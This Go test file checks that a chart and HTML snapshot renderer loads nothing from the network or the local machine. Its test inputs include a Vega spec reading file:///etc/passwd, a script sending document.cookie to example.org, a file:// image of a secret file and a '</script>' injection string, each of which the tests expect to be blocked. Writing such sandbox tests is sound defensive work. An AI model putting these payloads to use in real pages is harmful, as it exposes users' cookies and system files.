package snapshot_test

import (
	"bytes"
	"errors"
	"image/png"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/flowbook/flowbook/pkg/testenv"
	"github.com/flowbook/flowbook/reportgen/internal/rendertest"
	"github.com/flowbook/flowbook/reportgen/internal/snapshot"
)

// TestVega checks that vl-convert draws charts if the packages have it, except those that
// would load data.
func TestVega(t *testing.T) {
	prefix := t.TempDir()
	folder := filepath.Join(prefix, "lib", "python3.13", "site-packages")
	for name, content := range map[string]string{
		"lib/python3.13/site-packages/vl_convert/__init__.py": "",
		"bin/python3": "#!/bin/sh\nread spec\ncase $spec in *broken*) echo no such mark >&2; exit 1;; esac\necho \"<svg><!-- $# $1 $spec --></svg>\"\n",
	} {
		file := filepath.Join(prefix, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(content+"\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	b := snapshot.New([]string{t.TempDir(), folder})
	defer func() {
		if err := b.Close(); err != nil {
			t.Error(err)
		}
	}()
	if picture, err := b.Vega(map[string]any{"mark": "bar"}); err != nil || picture.SVG != "<svg><!-- 3 -I {\"mark\":\"bar\"} --></svg>\n" {
		t.Errorf("drew %+v, %v", picture, err)
	}
	if _, err := b.Vega(map[string]any{"mark": "broken"}); err == nil || !strings.HasSuffix(err.Error(), "no such mark") {
		t.Errorf("a chart that vl-convert refuses: %v", err)
	}
	rendertest.Browser(t)
	_, err := b.Vega(map[string]any{"layer": []any{map[string]any{"data": map[string]any{"url": "file:///etc/passwd"}}}})
	if missing, ok := errors.AsType[*snapshot.MissingError](err); !ok || len(missing.Addresses) != 3 {
		t.Errorf("a chart of a file: %v", err)
	}
}

// TestMissing checks that an error names three missing files and counts the others.
func TestMissing(t *testing.T) {
	err := &snapshot.MissingError{Addresses: []string{"a", "b", "c", "d", "e"}}
	if got := err.Error(); got != "needs a, b, c and 2 more, which no installed package has" {
		t.Errorf("got %q", got)
	}
}

// packages returns a folder of packages with a small script in place of Plotly's.
func packages(t *testing.T) string {
	t.Helper()
	rendertest.Browser(t)
	dir := t.TempDir()
	const script = `window.Plotly = {
		newPlot: async (id, data, layout) => ({_fullLayout: layout, data}),
		toImage: async (e, o) => "data:image/svg+xml," + encodeURIComponent('<svg id="' + Math.random() + '" width="' + o.width + '"><text>' + e.data[0].name + '</text></svg>'),
	};`
	testenv.WriteFiles(t, dir, map[string]string{"plotly/package_data/plotly.min.js": script})
	return dir
}

func TestPlotly(t *testing.T) {
	b := snapshot.New([]string{t.TempDir(), packages(t)})
	defer func() {
		if err := b.Close(); err != nil {
			t.Error(err)
		}
	}()
	figure := map[string]any{"data": []any{map[string]any{"name": "</script><b>x"}}, "layout": map[string]any{"width": 123}}
	first, err := b.Plotly(figure)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(first.SVG, `width="123"`) || !strings.Contains(first.SVG, "</script><b>x") {
		t.Errorf("drew %s", first.SVG)
	}
	if again, err := b.Plotly(figure); err != nil || again.SVG != first.SVG {
		t.Errorf("drew another picture: %s, %v", again.SVG, err)
	}
	if _, err := b.Plotly(map[string]any{}); err == nil || !strings.Contains(err.Error(), "the chart's script failed") {
		t.Errorf("a chart without data: %v", err)
	}
}

func TestHTML(t *testing.T) {
	packages(t)
	b := snapshot.New(nil)
	defer func() {
		if err := b.Close(); err != nil {
			t.Error(err)
		}
	}()
	picture, err := b.HTML(`<canvas id="c" width="300" height="100"></canvas><script>document.getElementById("c").getContext("2d").fillRect(0, 0, 300, 100)</script>`)
	if err != nil {
		t.Fatal(err)
	}
	drawn, err := png.Decode(bytes.NewReader(picture.PNG))
	if err != nil {
		t.Fatal(err)
	}
	if r, g, bl, _ := drawn.At(200, 100).RGBA(); r+g+bl != 0 || picture.Width < 300 || drawn.Bounds().Dx() != 2*picture.Width {
		t.Errorf("drew %v of %d pixels, black is %d %d %d", drawn.Bounds(), picture.Width, r, g, bl)
	}
	// Nothing is loaded: neither from the network nor from the machine.
	secret := filepath.Join(t.TempDir(), "secret.svg")
	if err := os.WriteFile(secret, []byte("<svg/>"), 0o600); err != nil {
		t.Fatal(err)
	}
	if picture, err := b.HTML(`text<img src="file://` + secret + `">`); err != nil || picture.Missing != "file://"+secret {
		t.Errorf("a picture of the machine: %+v, %v", picture, err)
	}
	// A script matters if the page fails without it.
	const tag = `<p>shown</p><script src="https://example.org/x.js"></script>`
	if picture, err := b.HTML(tag); err != nil || picture.Missing != "https://example.org/x.js" {
		t.Errorf("a script that is not used: %+v, %v", picture, err)
	}
	if _, err := b.HTML(tag + "<script>X.draw()</script>"); err == nil || !strings.Contains(err.Error(), "needs https://example.org/x.js") {
		t.Errorf("a script that is used: %v", err)
	}
	for _, body := range []string{`<script src="https://example.org/x.js"></script>`, `<script>fetch("https://example.org/?" + document.cookie)</script>`} {
		_, err := b.HTML("text" + body)
		if missing, ok := errors.AsType[*snapshot.MissingError](err); !ok || len(missing.Addresses) != 1 {
			t.Errorf("%s: %v", body, err)
		}
	}
	if _, err := b.HTML("<script></script>"); err == nil || err.Error() != "its scripts draw nothing" {
		t.Errorf("an empty page: %v", err)
	}
}
